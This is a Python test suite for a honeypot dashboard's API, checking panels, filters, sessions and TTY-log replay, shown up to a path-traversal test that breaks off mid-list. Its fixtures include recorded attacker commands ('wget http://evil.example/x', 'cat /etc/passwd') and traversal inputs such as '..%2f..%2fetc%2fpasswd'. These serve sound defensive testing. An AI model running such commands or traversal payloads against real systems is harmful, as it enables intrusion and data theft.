# SPDX-License-Identifier: MIT
"""The dashboard's JSON API (docs/dashboard.md) against a small lake of known content (see webutil.py).

In process through FastAPI's TestClient (on ``127.0.0.1``: the Guard checks the
Host header of an unauthenticated loopback server), except the live feed and
the "lake changes under a running server" checks, which run ``honeyfarm serve``
as a real subprocess and ingest with the real CLI.
"""

from __future__ import annotations

import datetime as dt
import json
import queue
import shutil
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass
from decimal import Decimal
from pathlib import Path
from typing import Any

import duckdb
import httpx
import pytest
from lakeutil import hf, query
from webutil import (
    HASSH_A,
    HASSH_B,
    R53_QUERIES,
    SENSORS,
    SHA_X,
    SHA_Y,
    TOTAL_EVENTS,
    TTY_FRAMES,
    TTY_TEXT,
    URL_X,
    URL_Y,
    VPC_FLOWS,
    TestClient,
    build_lake,
    cowrie_records,
    serve_env,
    serving,
    write_ttylog,
)

from honeyfarm.analysis.panels import PANELS, Filters
from honeyfarm.lake.store import Lake
from honeyfarm.views.web import api as api_module
from honeyfarm.views.web.app import create_app
from honeyfarm.views.web.catalog import REGION_COORDS
from honeyfarm.views.web.live import LIVE_COLUMNS
from honeyfarm.views.web.queries import SESSION_COLUMNS
from honeyfarm.views.web.settings import FleetConfig, SensorInfo, ServeConfig
from honeyfarm.views.web.state import TtyLogs

BASE = "http://127.0.0.1"
TABLE_KEYS = {"columns", "rows", "has_more", "limit", "offset"}
T = dt.datetime


@dataclass(frozen=True)
class World:
    root: Path
    lake: Path
    spool: Path


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> World:
    root = tmp_path_factory.mktemp("dash")
    lake = build_lake(root)
    spool = root / "spool"
    write_ttylog(spool, "c0ffee01")
    return World(root, lake, spool)


@pytest.fixture(scope="module")
def client(world: World) -> Iterator[TestClient]:
    app = create_app(world.lake, ServeConfig(ttylog_dirs=[world.spool]))
    with TestClient(app, base_url=BASE) as c:
        yield c


@pytest.fixture(scope="module")
def con(world: World) -> Iterator[duckdb.DuckDBPyConnection]:
    c = Lake(world.lake).connect()
    yield c
    c.close()


def _default(v: Any) -> Any:
    if isinstance(v, dt.datetime | dt.date):
        return v.isoformat()
    if isinstance(v, Decimal):
        return float(v)
    raise TypeError(repr(v))


def js(v: Any) -> Any:
    """``v`` after a JSON round trip (timestamps as ISO 8601)."""
    return json.loads(json.dumps(v, default=_default))


def get(c: TestClient, url: str, params: Any = None, status: int = 200) -> Any:
    r = c.get(url, params=params)
    assert r.status_code == status, f"{url} {params}: {r.status_code} {r.text[:500]}"
    return r.json()


def panel_rows(con: duckdb.DuckDBPyConnection, name: str, f: Filters | None = None, **kw: Any) -> tuple[list[str], Any]:
    t = PANELS[name].func(con, f or Filters(), **kw)
    cols = t.column_names
    return cols, js([[r[c] for c in cols] for r in t.to_pylist()])


def is_table(t: Any) -> None:
    assert isinstance(t, dict)
    assert set(t) >= TABLE_KEYS, t
    assert isinstance(t["columns"], list) and isinstance(t["rows"], list)
    assert all(len(r) == len(t["columns"]) for r in t["rows"])


def as_dicts(t: dict[str, Any]) -> list[dict[str, Any]]:
    return [dict(zip(t["columns"], r, strict=True)) for r in t["rows"]]


PAGED_PANELS = [n for n in PANELS if n != "timeline"]


# ---------------------------------------------------------------------------- meta


def test_meta_lists_filter_choices_and_lake_span(client: TestClient, world: World) -> None:
    m = get(client, "/api/meta")
    assert m["events"] == TOTAL_EVENTS
    assert m["first_seen"] == "2026-11-20T08:00:00"
    assert m["last_seen"] == "2026-11-21T14:00:00"  # end of the last hour with events
    assert m["sensors"] == [*SENSORS, "(no sensor)"]  # 10 events carry no sensor: a filter choice too
    assert m["regions"] == ["eu-west-1", "us-east-1"]
    assert m["exposures"] == ["ip", "pastebin"]
    assert m["honeypots"] == ["aws", "cowrie", "heralding"]
    want = query(
        world.lake,
        """SELECT src_country, any_value(src_country_name) FROM events WHERE src_country IS NOT NULL
        GROUP BY 1 ORDER BY 1""",
    )
    assert m["countries"] == [{"code": c, "name": n} for c, n in want]
    assert len(m["countries"]) >= 3 and all(c["name"] for c in m["countries"])
    assert [p["name"] for p in m["panels"]] == list(PANELS)
    assert all(p["doc"] == PANELS[p["name"]].doc for p in m["panels"])
    assert m["auth"] is False
    assert m["version"] and m["lake"] == world.lake.name  # its name only, not where it lives
    assert m["outside_window"] == 0 and set(m["window"]) == {"since", "until"}


# -------------------------------------------------------------------------- panels


@pytest.mark.parametrize("name", PAGED_PANELS)
def test_panel_equals_panel_function(client: TestClient, con: duckdb.DuckDBPyConnection, name: str) -> None:
    got = get(client, f"/api/panels/{name}")
    is_table(got)
    cols, rows = panel_rows(con, name, limit=PANELS[name].default_limit)
    assert got["columns"] == cols
    assert got["rows"] == rows
    assert (got["offset"], got["limit"], got["has_more"]) == (0, PANELS[name].default_limit, False)
    assert rows, f"{name}: the fixture should give every panel something to show"


@pytest.mark.parametrize("name", PAGED_PANELS)
def test_panel_pages_add_up_to_the_whole(client: TestClient, con: duckdb.DuckDBPyConnection, name: str) -> None:
    _, full = panel_rows(con, name, limit=1000)
    for limit in (1, 2, 3):
        seen: list[Any] = []
        offset = 0
        while True:
            page = get(client, f"/api/panels/{name}", {"limit": limit, "offset": offset})
            assert (page["limit"], page["offset"]) == (limit, offset)
            assert page["has_more"] == (offset + limit < len(full)), (name, limit, offset, len(full))
            assert len(page["rows"]) == min(limit, len(full) - offset)
            seen += page["rows"]
            if not page["has_more"]:
                break
            offset += limit
        assert seen == full, (name, limit)
    beyond = get(client, f"/api/panels/{name}", {"limit": 5, "offset": len(full) + 3})
    assert (beyond["rows"], beyond["has_more"]) == ([], False)


@pytest.mark.parametrize(
    "params",
    [{"limit": 501}, {"limit": 0}, {"limit": -1}, {"offset": -1}, {"offset": 10_001}, {"limit": "x"}],
)
def test_panel_rejects_out_of_range_paging(client: TestClient, params: dict[str, Any]) -> None:
    r = client.get("/api/panels/top-usernames", params=params)
    assert r.status_code in (400, 422), r.text
    assert "detail" in r.json()


def test_every_panel_caps_limit_at_500(client: TestClient) -> None:
    for name in PANELS:
        assert client.get(f"/api/panels/{name}", params={"limit": 501}).status_code in (400, 422), name
        assert client.get(f"/api/panels/{name}", params={"limit": 500}).status_code == 200, name


def test_unknown_panel_is_404(client: TestClient) -> None:
    r = client.get("/api/panels/no-such-panel")
    assert r.status_code == 404
    assert "no-such-panel" in r.json()["detail"]


def test_panels_count_what_the_fixture_holds(client: TestClient) -> None:
    users = as_dicts(get(client, "/api/panels/top-usernames"))
    assert users[0] == {"username": "root", "attempts": 7, "successes": 2}
    assert {u["username"]: u["attempts"] for u in users} == {"root": 7, "admin": 1, "guest": 1, "ubnt": 1}
    pws = {p["password"]: (p["attempts"], p["successes"]) for p in as_dicts(get(client, "/api/panels/top-passwords"))}
    assert pws == {"123456": (4, 1), "admin": (2, 0), "toor": (1, 1), "guest": (1, 0), "pass1": (1, 0), "ubnt": (1, 0)}
    creds = as_dicts(get(client, "/api/panels/top-credentials", {"limit": 1}))
    assert creds == [{"username": "root", "password": "123456", "attempts": 4, "successes": 1}]
    cmds = {c["command"]: (c["count"], c["sessions"]) for c in as_dicts(get(client, "/api/panels/top-commands"))}
    assert cmds == {"uname -a": (2, 2), "wget http://evil.example/x": (1, 1), "cat /etc/passwd": (1, 1), "ls": (1, 1)}
    versions = as_dicts(get(client, "/api/panels/client-versions"))
    assert [(v["client_version"], v["sessions"]) for v in versions] == [
        ("SSH-2.0-Go", 2),
        ("SSH-2.0-libssh2_1.10.0", 1),
    ]
    hs = as_dicts(get(client, "/api/panels/hassh"))
    assert [(h["hassh"], h["sessions"], h["client_version"]) for h in hs] == [
        (HASSH_A, 2, "SSH-2.0-Go"),
        (HASSH_B, 1, "SSH-2.0-libssh2_1.10.0"),
    ]
    dls = as_dicts(get(client, "/api/panels/downloads"))
    assert [(d["url"], d["sha256"], d["count"], d["sensors"]) for d in dls] == [
        (URL_X, SHA_X, 1, "cow-fra"),
        (URL_Y, SHA_Y, 1, "cow-fra"),
    ]
    overview = as_dicts(get(client, "/api/panels/overview"))
    assert overview[0]["sensor"] == "(all)" and overview[0]["events"] == TOTAL_EVENTS
    assert {o["sensor"]: o["events"] for o in overview[1:]} == {"cow-fra": 27, "s-eu": 6, "s-us": 3, "(no sensor)": 10}
    eventids = {e["eventid"]: e["events"] for e in as_dicts(get(client, "/api/panels/eventids"))}
    assert eventids["aws.vpcflow.reject"] == 3 and eventids["aws.route53.query"] == 4
    assert sum(eventids.values()) == TOTAL_EVENTS


# ------------------------------------------------------------------------ timeline


@pytest.mark.parametrize("bucket", ["hour", "day"])
@pytest.mark.parametrize("by", ["none", "country", "honeypot"])
def test_timeline_buckets_and_series(
    client: TestClient, con: duckdb.DuckDBPyConnection, world: World, bucket: str, by: str
) -> None:
    got = get(client, "/api/panels/timeline", {"bucket": bucket, "by": by})
    is_table(got)
    assert got["bucket"] == bucket
    _, rows = panel_rows(
        con, "timeline", limit=5, bucket=bucket, by_country=by == "country", by_honeypot=by == "honeypot"
    )
    assert got["rows"] == rows
    assert got["columns"] == (["bucket", "events"] if by == "none" else ["bucket", "series", "events"])
    assert sum(r[-1] for r in got["rows"]) == TOTAL_EVENTS
    per_bucket: dict[str, int] = {}
    for r in got["rows"]:
        per_bucket[r[0]] = per_bucket.get(r[0], 0) + r[-1]
    want = query(world.lake, f"SELECT date_trunc('{bucket}', ts), count(*) FROM events GROUP BY 1 ORDER BY 1")
    assert per_bucket == {k.isoformat(): n for k, n in want}
    if by == "honeypot":
        assert {r[1] for r in got["rows"]} == {"aws", "cowrie", "heralding"}
    if by == "country":
        assert "other" in {r[1] for r in got["rows"]}  # private and flowless (NODATA) events have no country


def test_timeline_series_limit_and_auto_bucket(client: TestClient, con: duckdb.DuckDBPyConnection) -> None:
    got = get(client, "/api/panels/timeline", {"by": "country", "limit": 1, "bucket": "day"})
    assert {r[1] for r in got["rows"]} == {"US", "other"}
    assert got["rows"] == panel_rows(con, "timeline", limit=1, bucket="day", by_country=True)[1]
    assert get(client, "/api/panels/timeline")["bucket"] == "hour"  # two days of data: hourly
    for bad in ({"bucket": "week"}, {"by": "sensor"}, {"limit": 501}):
        assert client.get("/api/panels/timeline", params=bad).status_code in (400, 422), bad


# ------------------------------------------------------------------------- filters

NOTHING = Filters(sensors=(api_module.NOTHING,))
FILTER_CASES: list[tuple[dict[str, Any], Filters, str]] = [
    ({"since": "2026-11-21T00:00:00Z"}, Filters(since=T(2026, 11, 21)), "ts >= '2026-11-21'"),
    ({"until": "2026-11-20T12:00:00Z"}, Filters(until=T(2026, 11, 20, 12)), "ts < '2026-11-20 12:00'"),
    (
        {"since": "2026-11-20T09:30:02", "until": "2026-11-21T10:00:03Z"},  # not whole hours: read from events
        Filters(since=T(2026, 11, 20, 9, 30, 2), until=T(2026, 11, 21, 10, 0, 3)),
        "ts >= '2026-11-20 09:30:02' AND ts < '2026-11-21 10:00:03'",
    ),
    ({"since": "2026-11-21T11:00:00+01:00"}, Filters(since=T(2026, 11, 21, 10)), "ts >= '2026-11-21 10:00'"),
    ({"sensor": "cow-fra"}, Filters(sensors=("cow-fra",)), "sensor = 'cow-fra'"),
    ({"sensor": ["s-us", "s-eu"]}, Filters(sensors=("s-eu", "s-us")), "sensor IN ('s-eu', 's-us')"),
    ({"sensor": "nope"}, Filters(sensors=("nope",)), "false"),
    ({"honeypot": "heralding"}, Filters(honeypots=("heralding",)), "eventid LIKE 'heralding.%'"),
    ({"honeypot": ["aws", "cowrie"]}, Filters(honeypots=("aws", "cowrie")), "eventid NOT LIKE 'heralding.%'"),
    ({"country": ["US", "RU"]}, Filters(countries=("RU", "US")), "src_country IN ('US', 'RU')"),
    ({"region": "eu-west-1"}, Filters(sensors=("s-eu",)), "sensor = 's-eu'"),
    ({"region": ["eu-west-1", "us-east-1"]}, Filters(sensors=("s-eu", "s-us")), "sensor IN ('s-eu', 's-us')"),
    ({"exposure": "ip"}, Filters(sensors=("s-us",)), "sensor = 's-us'"),
    ({"exposure": "pastebin", "region": ["eu-west-1", "us-east-1"]}, Filters(sensors=("s-eu",)), "sensor = 's-eu'"),
    ({"region": "us-east-1", "sensor": ["s-us", "cow-fra"]}, Filters(sensors=("s-us",)), "sensor = 's-us'"),
    ({"region": "eu-west-1", "sensor": "cow-fra"}, NOTHING, "false"),
    ({"region": "mars-north-1"}, NOTHING, "false"),
    ({"exposure": "billboard"}, NOTHING, "false"),
    (
        {"since": "2026-11-20T00:00:00Z", "until": "2026-11-21T00:00:00Z", "country": "US", "honeypot": "cowrie"},
        Filters(since=T(2026, 11, 20), until=T(2026, 11, 21), countries=("US",), honeypots=("cowrie",)),
        "ts < '2026-11-21' AND src_country = 'US' AND eventid LIKE 'cowrie.%'",
    ),
]


@pytest.mark.parametrize(("params", "f", "where"), FILTER_CASES, ids=[json.dumps(c[0]) for c in FILTER_CASES])
def test_filters(
    client: TestClient, con: duckdb.DuckDBPyConnection, world: World, params: dict[str, Any], f: Filters, where: str
) -> None:
    n = query(world.lake, f"SELECT count(*) FROM events WHERE {where}")[0][0]
    overview = get(client, "/api/panels/overview", params)
    assert overview["rows"][0][:2] == ["(all)", n]
    for name in ("overview", "eventids", "top-usernames", "top-countries", "top-ips", "top-commands"):
        got = get(client, f"/api/panels/{name}", params)
        assert got["rows"] == panel_rows(con, name, f, limit=PANELS[name].default_limit)[1], name
    tl = get(client, "/api/panels/timeline", {**params, "bucket": "hour", "by": "country"})
    assert tl["rows"] == panel_rows(con, "timeline", f, limit=5, bucket="hour", by_country=True)[1]
    assert sum(r[-1] for r in tl["rows"]) == n
    countries = get(client, "/api/map", params)["countries"]["rows"]
    assert (
        sum(r[2] for r in countries)
        == query(world.lake, f"SELECT count(*) FROM events WHERE src_country IS NOT NULL AND ({where})")[0][0]
    )
    sessions = get(client, "/api/sessions", {**params, "limit": 500})
    want = query(
        world.lake, f"SELECT count(DISTINCT (sensor, session)) FROM events WHERE session IS NOT NULL AND ({where})"
    )
    assert len(sessions["rows"]) == want[0][0]


@pytest.mark.parametrize(
    "params",
    [
        {"since": "2026-11-21T00:00:00Z", "until": "2026-11-20T00:00:00Z"},
        {"since": "2026-11-21T00:00:00Z", "until": "2026-11-21T00:00:00Z"},
        {"since": "2026-11-21T01:00:00+01:00", "until": "2026-11-21T00:00:00Z"},  # the same instant
    ],
)
@pytest.mark.parametrize(
    "url", ["/api/panels/overview", "/api/map", "/api/sensors", "/api/sessions", "/api/network/vpc"]
)
def test_since_must_be_before_until(client: TestClient, url: str, params: dict[str, str]) -> None:
    r = client.get(url, params=params)
    assert r.status_code == 400, r.text
    assert "since" in r.json()["detail"]


def test_bad_filter_values_are_rejected(client: TestClient) -> None:
    assert client.get("/api/panels/overview", params={"since": "yesterday"}).status_code in (400, 422)
    r = client.get("/api/panels/overview", params={"sensor": [f"s{i}" for i in range(101)]})
    assert r.status_code == 400 and "sensor" in r.json()["detail"]
    r = client.get("/api/map", params={"country": "X" * 201})
    assert r.status_code in (400, 422)


# ----------------------------------------------------------------------------- map


def test_map_countries_sensors_and_arcs(client: TestClient, world: World) -> None:
    m = get(client, "/api/map")
    for t in m.values():
        is_table(t)
    assert m["countries"]["columns"] == ["country", "name", "events", "unique_ips"]
    want = query(
        world.lake,
        """SELECT src_country, any_value(src_country_name), count(*), count(DISTINCT src_ip) FROM events
        WHERE src_country IS NOT NULL GROUP BY 1 ORDER BY 3 DESC, 1""",
    )
    assert m["countries"]["rows"] == [list(r) for r in want]
    with_country = query(world.lake, "SELECT count(*) FROM events WHERE src_country IS NOT NULL")[0][0]
    assert sum(r[2] for r in m["countries"]["rows"]) == with_country < TOTAL_EVENTS
    sensors = {r[0]: r[1:] for r in m["sensors"]["rows"]}
    assert sensors == {
        "cow-fra": [None, None, None, 27],
        "(no sensor)": [None, None, None, 10],
        "s-eu": ["eu-west-1", *REGION_COORDS["eu-west-1"], 6],
        "s-us": ["us-east-1", *REGION_COORDS["us-east-1"], 3],
    }
    arcs = query(
        world.lake,
        """SELECT src_country, sensor, count(*) FROM events WHERE src_country IS NOT NULL AND sensor IS NOT NULL
        GROUP BY 1, 2 ORDER BY 3 DESC, 1, 2""",
    )
    assert m["arcs"]["rows"] == [list(r) for r in arcs]
    only_ru = get(client, "/api/map", {"country": "RU"})
    assert [r[0] for r in only_ru["countries"]["rows"]] == ["RU"]
    assert {r[0] for r in only_ru["arcs"]["rows"]} == {"RU"}


# ------------------------------------------------------------------------- sensors

SENSOR_COLUMNS = [
    "events", "sessions", "unique_ips", "logins", "successes", "commands", "downloads", "hourly_cost", "hours",
    "cost", "events_per_dollar", "unique_ips_per_dollar", "downloads_per_dollar",
]  # fmt: skip


def check_costs(rows: list[dict[str, Any]]) -> None:
    """cost = hourly_cost × hours; per-dollar = n / cost, null when the cost is unknown or zero."""
    for r in rows:
        if r["hourly_cost"] is None or r["hourly_cost"] == 0:
            assert r["events_per_dollar"] is r["unique_ips_per_dollar"] is r["downloads_per_dollar"] is None, r
            if r["hourly_cost"] is None:
                assert r["cost"] is None, r
            continue
        assert r["cost"] == pytest.approx(r["hourly_cost"] * r["hours"], abs=1e-4), r
        for m in ("events", "unique_ips", "downloads"):
            assert r[f"{m}_per_dollar"] == pytest.approx(r[m] / r["cost"], abs=0.01), (m, r)


def test_sensors_activity_cost_and_per_dollar(client: TestClient) -> None:
    out = get(client, "/api/sensors")
    assert set(out) == {"totals", "estimated", "sensors", "regions", "exposures"}
    assert out.pop("estimated") == []  # a small lake: sessions counted exactly (tests/test_estimated_sessions.py)
    # the totals row is the overview panel's "(all)" row (one scan serves the Overview view)
    overview = get(client, "/api/panels/overview")["rows"][0]
    totals = out.pop("totals")
    assert [totals[k] for k in ("events", "sessions", "unique_ips", "first_seen", "last_seen")] == overview[1:]
    for t in out.values():
        is_table(t)
        assert set(SENSOR_COLUMNS) <= set(t["columns"])
        check_costs(as_dicts(t))
    per = {r["sensor"]: r for r in as_dicts(out["sensors"])}
    assert list(per) == ["cow-fra", "s-eu", "s-us", "(no sensor)"]  # busiest first, the events without one last
    cow, eu, us = per["cow-fra"], per["s-eu"], per["s-us"]
    assert {k: cow[k] for k in SENSOR_COLUMNS} == {
        "events": 27, "sessions": 4, "unique_ips": 4, "logins": 7, "successes": 2, "commands": 4, "downloads": 2,
        "hourly_cost": None, "hours": 27.0, "cost": None,
        "events_per_dollar": None, "unique_ips_per_dollar": None, "downloads_per_dollar": None,
    }  # fmt: skip
    assert (cow["region"], cow["exposure"]) == (None, None)
    # s-eu: 12:00:00 to 15:00:01 is 3.0 hours at $0.01
    assert {k: eu[k] for k in SENSOR_COLUMNS} == {
        "events": 6, "sessions": 2, "unique_ips": 2, "logins": 2, "successes": 0, "commands": 1, "downloads": 0,
        "hourly_cost": 0.01, "hours": 3.0, "cost": 0.03,
        "events_per_dollar": 200.0, "unique_ips_per_dollar": 66.67, "downloads_per_dollar": 0.0,
    }  # fmt: skip
    assert (eu["region"], eu["exposure"], eu["provider"]) == ("eu-west-1", "pastebin", "aws")
    # s-us: one session of 2 seconds counts as (at least) one hour
    assert (us["hours"], us["cost"], us["events_per_dollar"]) == (1.0, 0.02, 150.0)
    regions = {r["region"]: r for r in as_dicts(out["regions"])}
    assert set(regions) == {"eu-west-1", "us-east-1", "(unknown)"}
    assert (regions["eu-west-1"]["sensors"], regions["eu-west-1"]["events"], regions["eu-west-1"]["cost"]) == (
        1,
        6,
        0.03,
    )
    assert regions["(unknown)"]["hourly_cost"] is None and regions["(unknown)"]["events"] == 37  # + (no sensor)
    exposures = {r["exposure"]: r["events"] for r in as_dicts(out["exposures"])}
    assert exposures == {"pastebin": 6, "ip": 3, "(unknown)": 37}


def test_sensors_hours_follow_a_closed_time_range(client: TestClient) -> None:
    out = get(client, "/api/sensors", {"since": "2026-11-20T00:00:00Z", "until": "2026-11-22T00:00:00Z"})
    per = {r["sensor"]: r for r in as_dicts(out["sensors"])}
    assert {r["hours"] for r in per.values()} == {48.0}
    assert per["s-eu"]["cost"] == pytest.approx(0.48)
    assert per["s-us"]["cost"] == pytest.approx(0.96)
    check_costs(list(per.values()))
    only = get(client, "/api/sensors", {"region": "us-east-1"})
    assert [r[0] for r in only["sensors"]["rows"]] == ["s-us"]


def test_fleet_config_fills_in_and_overrides_the_lake(world: World) -> None:
    fleet = FleetConfig(
        sensors={
            "cow-fra": SensorInfo(region="eu-central-1", exposure="domain", provider="hetzner", hourly_cost=0.05),
            "s-eu": SensorInfo(hourly_cost=0.5),  # region and exposure still come from the lake
            "ghost": SensorInfo(region="ap-south-1", lat=1.5, lon=2.5),
        }
    )
    with TestClient(create_app(world.lake, ServeConfig(), fleet), base_url=BASE) as c:
        per = {r["sensor"]: r for r in as_dicts(get(c, "/api/sensors")["sensors"])}
        assert set(per) == {*SENSORS, "(no sensor)"}  # ghost has no events
        cow = per["cow-fra"]
        assert (cow["region"], cow["exposure"], cow["provider"], cow["hourly_cost"]) == (
            "eu-central-1", "domain", "hetzner", 0.05,
        )  # fmt: skip
        assert (cow["hours"], cow["cost"], cow["events_per_dollar"], cow["downloads_per_dollar"]) == (
            27.0, 1.35, 20.0, 1.48,
        )  # fmt: skip
        eu = per["s-eu"]
        assert (eu["region"], eu["exposure"], eu["hourly_cost"], eu["cost"]) == ("eu-west-1", "pastebin", 0.5, 1.5)
        check_costs(list(per.values()))
        meta = get(c, "/api/meta")
        assert meta["sensors"] == ["cow-fra", "ghost", "s-eu", "s-us", "(no sensor)"]
        assert meta["regions"] == ["ap-south-1", "eu-central-1", "eu-west-1", "us-east-1"]
        assert meta["exposures"] == ["domain", "ip", "pastebin"]
        assert get(c, "/api/panels/overview", {"region": "eu-central-1"})["rows"][1][:2] == ["cow-fra", 27]
        assert [r[0] for r in get(c, "/api/panels/overview", {"exposure": "domain"})["rows"]] == ["(all)", "cow-fra"]
        assert get(c, "/api/panels/overview", {"region": "ap-south-1"})["rows"] == [["(all)", 0, 0, 0, None, None]]
        sensors = {r[0]: r[1:4] for r in get(c, "/api/map")["sensors"]["rows"]}
        assert sensors["cow-fra"] == ["eu-central-1", *REGION_COORDS["eu-central-1"]]


# ------------------------------------------------------------------------ sessions

SESSIONS_SQL = """SELECT sensor, session, any_value(src_ip), any_value(src_country), min(ts), max(ts), count(*)::BIGINT,
    count_if(eventid LIKE '%.command.input')::BIGINT FROM events WHERE session IS NOT NULL {where}
    GROUP BY sensor, session ORDER BY 7 DESC, 5, 1, 2"""


def test_sessions_busiest_first_and_paged(client: TestClient, world: World) -> None:
    got = get(client, "/api/sessions")
    is_table(got)
    assert got["columns"] == ["sensor", "session", "src_ip", "country", "first_seen", "last_seen", "events", "commands"]
    want = js([list(r) for r in query(world.lake, SESSIONS_SQL.format(where=""))])
    assert got["rows"] == want
    assert len(want) == 7 and want[0][:2] == ["cow-fra", "c0ffee01"] and want[0][6:] == [10, 2]
    pages: list[Any] = []
    for offset in range(0, 9, 3):
        page = get(client, "/api/sessions", {"limit": 3, "offset": offset})
        assert page["has_more"] == (offset + 3 < 7)
        pages += page["rows"]
    assert pages == want


@pytest.mark.parametrize(
    ("params", "want"),
    [
        ({"command": "uname -a"}, [("cow-fra", "c0ffee01"), ("cow-fra", "c0ffee03")]),
        ({"command": "ls"}, [("s-eu", "5e550001")]),
        ({"command": "uname"}, []),  # exact command lines only
        ({"ip": "8.8.8.8"}, [("cow-fra", "c0ffee01"), ("s-eu", "5e550003")]),
        ({"ip": "8.8.8.8", "command": "uname -a"}, [("cow-fra", "c0ffee01")]),
        ({"ip": "8.8.8.8", "sensor": "s-eu"}, [("s-eu", "5e550003")]),
        ({"command": "uname -a", "since": "2026-11-21T00:00:00Z"}, [("cow-fra", "c0ffee03")]),
        ({"command": "uname -a", "country": "RU"}, [("cow-fra", "c0ffee03")]),
        # not whole hours: sessions and commands computed from the events
        ({"command": "uname -a", "since": "2026-11-20T08:00:05Z"}, [("cow-fra", "c0ffee03"), ("cow-fra", "c0ffee01")]),
        ({"region": "us-east-1"}, [("s-us", "5e550002")]),
        ({"ip": "192.0.2.1"}, []),
    ],
)
def test_sessions_by_command_and_ip(client: TestClient, params: dict[str, str], want: list[tuple[str, str]]) -> None:
    got = get(client, "/api/sessions", params)
    assert [(r[0], r[1]) for r in got["rows"]] == want
    if "command" in params and "since" not in params:
        assert all(r[7] >= 1 for r in got["rows"])


def test_session_events_in_order(client: TestClient) -> None:
    s = get(client, "/api/session?sensor=cow-fra&session=c0ffee01")
    assert (s["sensor"], s["session"], s["ttylog"]) == ("cow-fra", "c0ffee01", True)
    ev = s["events"]
    is_table(ev)
    assert ev["columns"] == list(SESSION_COLUMNS)
    rows = as_dicts(ev)
    written = [r for r in cowrie_records() if r["session"] == "c0ffee01"]
    assert [r["eventid"] for r in rows] == [w["eventid"] for w in written]
    assert [r["ts"] for r in rows] == sorted(r["ts"] for r in rows)
    assert rows[0]["ts"] == "2026-11-20T08:00:00"
    assert (rows[0]["src_port"], rows[0]["dst_port"], rows[0]["protocol"]) == (40001, 22, "ssh")
    assert rows[1]["client_version"] == "SSH-2.0-Go" and rows[2]["hassh"] == HASSH_A
    assert [(r["username"], r["password"]) for r in rows[3:6]] == [
        ("root", "123456"),
        ("root", "admin"),
        ("root", "toor"),
    ]
    assert [r["command"] for r in rows[6:8]] == ["uname -a", "wget http://evil.example/x"]
    assert (rows[8]["url"], rows[8]["sha256"]) == (URL_X, SHA_X)
    assert rows[9]["duration"] == 9.0
    assert {r["src_ip"] for r in rows} == {"8.8.8.8"}
    other = get(client, "/api/session?sensor=s-eu&session=5e550001")
    assert [r[1] for r in other["events"]["rows"]] == [
        "cowrie.session.connect", "cowrie.login.failed", "cowrie.command.input", "cowrie.session.closed",
    ]  # fmt: skip
    assert other["ttylog"] is False


@pytest.mark.parametrize(
    "path",
    [
        "/api/session?sensor=cow-fra&session=ffffffff",  # no such session
        "/api/session?sensor=s-eu&session=c0ffee01",  # a session of another sensor
        "/api/session?sensor=nope&session=c0ffee01",
        "/api/session?sensor=cow-fra&session=C0FFEE01",
    ],
)
def test_unknown_session_is_404(client: TestClient, path: str) -> None:
    r = client.get(path)
    assert r.status_code == 404, r.text
    assert r.json()["detail"]


# -------------------------------------------------------------------------- ttylog


def test_ttylog_frames_are_plain_text(client: TestClient) -> None:
    t = get(client, "/api/session/ttylog?sensor=cow-fra&session=c0ffee01")
    assert (t["width"], t["height"], t["duration"]) == (100, 30, 1.25)
    assert t["frames"] == [[ts, text] for (ts, _), text in zip(TTY_FRAMES, TTY_TEXT, strict=True)]
    for _, text in t["frames"]:
        assert not any((ord(ch) < 0x20 and ch != "\n") or 0x7F <= ord(ch) <= 0x9F for ch in text), repr(text)


def _other_spool_client(world: World, tmp_path: Path) -> TestClient:
    """A server whose TTY logs come from ``tmp_path`` (the lake's session ``c0ffee01`` gets a fresh log there)."""
    return TestClient(create_app(world.lake, ServeConfig(ttylog_dirs=[tmp_path])), base_url=BASE)


def test_ttylog_strips_every_escape_sequence(world: World, tmp_path: Path) -> None:
    frames = [
        (0.1, "a\x1b(Bb"),  # designate G0 charset: `tput sgr0` prints it, as do curses programs
        (0.2, "c\x1b7d\x1b8e"),  # DECSC / DECRC (save/restore cursor)
        (0.3, "f\x1b=g\x1b>h"),  # keypad modes
        (0.4, "i\x1b#8j"),  # DECALN
        (0.5, "k\x1bPq#0;2;0;0;0#0~~@@\x1b\\l"),  # DCS (sixel graphics)
    ]
    write_ttylog(tmp_path, "c0ffee01", frames)
    with _other_spool_client(world, tmp_path) as client:
        t = get(client, "/api/session/ttylog?sensor=cow-fra&session=c0ffee01")
    assert [text for _, text in t["frames"]] == ["ab", "cde", "fgh", "ij", "kl"]


def test_ttylog_tolerates_torn_and_odd_lines(world: World, tmp_path: Path) -> None:
    p = tmp_path / "tty" / "c0ffee01.cast"
    p.parent.mkdir()
    p.write_text(
        "\n".join([
            json.dumps({"version": 2, "width": "120", "height": 9999}),
            json.dumps([0.5, "o", "one\r\n"]),
            "not json",
            json.dumps([0.7, "i", "typed"]),
            json.dumps({"t": 1}),
            json.dumps([0.9, "o", 42]),
            json.dumps([1.5, "o", "two"]),
            '[2.0, "o", "tor',
        ]),
        encoding="utf-8",
    )  # fmt: skip
    with _other_spool_client(world, tmp_path) as client:
        t = get(client, "/api/session/ttylog?sensor=cow-fra&session=c0ffee01")
    assert (t["width"], t["height"], t["duration"], t["frames"]) == (120, 200, 1.5, [[0.5, "one\n"], [1.5, "two"]])
    assert t["truncated"] is False


def test_ttylog_with_absurd_header_falls_back_to_defaults(world: World, tmp_path: Path) -> None:
    p = tmp_path / "tty" / "c0ffee01.cast"
    p.parent.mkdir()
    p.write_text('{"version": 2, "width": 1e999, "height": 24}\n[0.5, "o", "hi"]\n', encoding="utf-8")
    app = create_app(world.lake, ServeConfig(ttylog_dirs=[tmp_path]))
    with TestClient(app, base_url=BASE, raise_server_exceptions=False) as c:
        r = c.get("/api/session/ttylog?sensor=cow-fra&session=c0ffee01")
        assert r.status_code == 200, r.text
        assert (r.json()["width"], r.json()["frames"]) == (80, [[0.5, "hi"]])


def test_ttylog_unknown_is_404(client: TestClient, world: World) -> None:
    assert (
        client.get("/api/session/ttylog?sensor=cow-fra&session=c0ffee02").status_code == 404
    )  # in the lake, no TTY log
    # a TTY log on disk is served only for a session the lake has under that sensor
    write_ttylog(world.spool, "deadbeef02")
    assert client.get("/api/session/ttylog?sensor=cow-fra&session=deadbeef02").status_code == 404
    assert client.get("/api/session/ttylog?sensor=no-such-sensor&session=c0ffee01").status_code == 404


@pytest.mark.parametrize(
    "session",
    [
        "..%2f..%2fetc%2fpasswd",
        "..%2Fsecret",
        "%2e%2e%2fsecret",
        "..%5csecret",
        "c0ffee01%2f..%2f..%2fsecret",
        "..",
        "...",
        "C0FFEE01",
